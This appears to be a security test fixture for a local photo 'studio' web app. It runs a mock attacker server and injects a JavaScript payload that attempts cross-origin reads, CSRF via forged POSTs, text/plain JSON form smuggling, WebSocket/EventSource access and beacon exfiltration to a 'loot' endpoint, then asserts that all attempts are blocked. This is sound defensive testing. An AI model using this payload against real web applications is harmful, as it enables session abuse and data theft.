# SPDX-License-Identifier: Apache-2.0
"""A server of an attacker on this machine: its page attacks a studio, and everything that it receives is recorded."""
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# Tries to read from a studio and to change its library. Returns what each attempt achieved: "blocked", "refused" with the
# status and the answer, or what has been read, which is also sent to the attacker.
ATTACK = """async ({ target, files, photo, key, loot }) => {
    const texts = ['', `${files}/main.js`, 'api/state', 'api/extensions', `api/assets/${photo}`];
    const picture = `pictures/${photo}/${key}/current?size=64`;
    const changes = [
        ['api/assets/revert', { assets: [photo] }], ['api/assets/turn', { assets: [photo], quarters: 1 }],
        ['api/albums', { name: 'attacked' }], ['api/logout', {}], ['api/login', { token: 'guess' }],
    ];
    const outcomes = {};
    const keep = (name, outcome) => {
        outcomes[name] = outcome;
        if (!/^(blocked|refused)/.test(outcome)) navigator.sendBeacon(loot, outcome);
    };
    const read = async (name, path, options) => keep(name, await fetch(target + path, options).then(async answer =>
        answer.type === 'opaque' ? 'blocked' : answer.ok ? `read ${await answer.text()}` : `refused ${answer.status} ${await answer.text()}`,
    ).catch(() => 'blocked'));
    const load = (name, node) => new Promise(resolve => {
        const done = outcome => resolve(keep(name, outcome));
        node.onload = node.onloadeddata = () => done('loaded');
        node.onerror = () => done('blocked');
        document.body.append(node);
    });
    const make = (tag, attributes) => Object.assign(document.createElement(tag), attributes);

    for (const mode of ['cors', 'no-cors']) {
        for (const path of [...texts, picture, 'api/events']) await read(`${mode} ${path}`, path, { mode, credentials: 'include' });
        const type = mode === 'cors' ? 'application/json' : 'text/plain';
        for (const [path, body] of changes) {
            await read(`${mode} post ${path}`, path, {
                method: 'POST', mode, credentials: 'include', body: JSON.stringify(body), headers: { 'Content-Type': type },
            });
        }
    }
    for (const method of ['DELETE', 'PATCH']) {
        await read(method, 'api/assets', { method, credentials: 'include', body: JSON.stringify({ assets: [photo], set: { title: 'attacked' } }) });
    }
    await load('image', make('img', { src: target + picture }));
    await load('style', make('link', { rel: 'stylesheet', href: `${target}${files}/style/base.css` }));
    for (const path of texts) await load(`script ${path}`, make('script', { src: target + path }));
    await load('module', make('script', { type: 'module', src: `${target}${files}/main.js` }));
    await load('video', make('video', { src: `${target}videos/${photo}/${key}.mp4`, preload: 'auto' }));

    await new Promise(resolve => {
        const events = new EventSource(`${target}api/events`, { withCredentials: true });
        events.onopen = () => resolve(keep('events', 'opened'));
        events.onerror = () => events.close() || resolve(keep('events', 'blocked'));
    });
    await new Promise(resolve => {
        const channel = new WebSocket(target.replace('http', 'ws') + 'api/events');
        channel.onopen = () => resolve(keep('web socket', 'opened'));
        channel.onerror = () => resolve(keep('web socket', 'blocked'));
    });
    for (const [path, body] of changes) navigator.sendBeacon(target + path, JSON.stringify(body));

    // A frame is loaded with the browser's page of errors; what is in it cannot be read then.
    const framed = (name, start) => new Promise(resolve => {
        const frame = make('iframe', { name: `frame ${name}` });
        document.body.append(frame);
        frame.onload = () => {
            const content = frame.contentDocument?.body?.textContent ?? '';
            resolve(keep(name, content === '' || /"error"/.test(content) ? 'blocked' : `read ${content}`));
        };
        start(frame);
    });
    for (const path of texts) await framed(`frame ${path}`, frame => { frame.src = target + path; });
    for (const [path, body] of changes) {
        await framed(`form ${path}`, frame => {
            const form = make('form', { action: target + path, method: 'post', enctype: 'text/plain', target: frame.name });
            const json = JSON.stringify(body);
            // The field and its value are separated by an equals sign.
            form.append(make('input', { name: `${json.slice(0, -1)}${json === '{}' ? '' : ','}"a":"`, value: '"}' }));
            document.body.append(form);
            form.submit();
        });
    }
    return outcomes;
}"""


class Attacker:
    """A server on 127.0.0.1 that has a page without content."""

    def __init__(self):
        self.received = []
        received = self.received

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                received.append((self.path, dict(self.headers), body))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<!doctype html><title>attacker</title><body></body>")

            do_POST = do_GET

            def log_message(self, *_):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        self.datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.datagrams.bind(("127.0.0.1", self.port))
        self.datagrams.setblocking(False)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self, host):
        return f"http://{host}:{self.port}/"

    def attack(self, tab, studio, photo, key, target=None):
        """Runs the attack in a tab, and returns what it achieved. No request may have been answered."""
        answered = []
        target = target or studio.url
        note = lambda answer: answer.url.startswith(target) and answer.status < 400 and answered.append(answer.url)
        tab.on("response", note)
        outcomes = tab.evaluate(ATTACK, {"target": target, "files": studio.files(), "photo": photo, "key": key, "loot": self.url("127.0.0.1") + "loot"})
        tab.remove_listener("response", note)
        assert len(outcomes) > 40
        assert {name: outcome for name, outcome in outcomes.items() if not outcome.startswith(("blocked", "refused 4"))} == {}
        assert answered == [], answered
        return outcomes

    def assert_nothing_received(self, *pages):
        """Fails if a request other than those for the attacker's own pages has been received."""
        assert [path for path, _, _ in self.received if path not in (*pages, "/favicon.ico")] == []
        try:
            assert self.datagrams.recv(65536) is None
        except BlockingIOError:
            pass

    def cookies(self):
        return [headers["Cookie"] for _, headers, _ in self.received if "Cookie" in headers]

    def close(self):
        self.server.shutdown()
        self.server.server_close()
        self.datagrams.close()
